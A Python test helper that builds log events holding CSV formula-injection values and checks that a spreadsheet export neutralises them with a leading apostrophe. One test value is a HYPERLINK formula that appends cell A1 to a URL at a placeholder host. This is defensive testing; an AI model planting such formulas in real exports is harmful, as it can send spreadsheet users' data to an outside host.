"""Events whose text a spreadsheet would run as formulas, and the check that
a CSV export ran none of them (the CLI's file and the dashboard's download)."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

from jelai.insight.export import FORMULA_STARTS, csv_columns

FORMULA_NOTEBOOK = '=HYPERLINK("http://example.invalid/?x="&A1,"open").ipynb'


def formula_events(make_event: Callable[..., dict[str, Any]]) -> list[dict[str, Any]]:
    """Events whose text a spreadsheet would run: a notebook, a cell id, a
    source, a reply and an other field starting with each formula character."""
    return [
        make_event(
            notebook=FORMULA_NOTEBOOK,
            cell={"id": "+1+1", "index": -1, "type": "code"},
            data={"source": "@SUM(1+1)", "success": True, "duration_ms": -0.5},
        ),
        make_event("cell.edit", cell={"id": "-2+3", "index": 0, "type": "code"}, data={}),
        make_event("cell.edit", session="\t=1+1", data={"source": "\r=1+1"}),
        make_event(
            "chat.exchange",
            cell=None,
            data={"model": "=m", "messages": [], "reply": "-1+1", "status": "finished"},
        ),
    ]


def assert_no_formulas(rows: list[list[str]]) -> None:
    """No cell of the rows starts a formula; text cells that did got an apostrophe."""
    header, *body = rows
    assert header == csv_columns()
    started = [cell for row in body for cell in row if cell.startswith(FORMULA_STARTS)]
    # Numbers stay numbers: a spreadsheet reads -1 as a number, never a formula.
    assert started == ["-1", "-0.5"]
    cells = {name: [row[i] for row in body] for i, name in enumerate(header)}
    assert cells["notebook"][0] == "'" + FORMULA_NOTEBOOK
    assert cells["cell_id"][:2] == ["'+1+1", "'-2+3"]
    assert cells["data.source"][:3] == ["'@SUM(1+1)", "", "'\r=1+1"]
    assert cells["session"][2] == "'\t=1+1"
    assert (cells["data.reply"][3], cells["data.model"][3]) == ("'-1+1", "'=m")
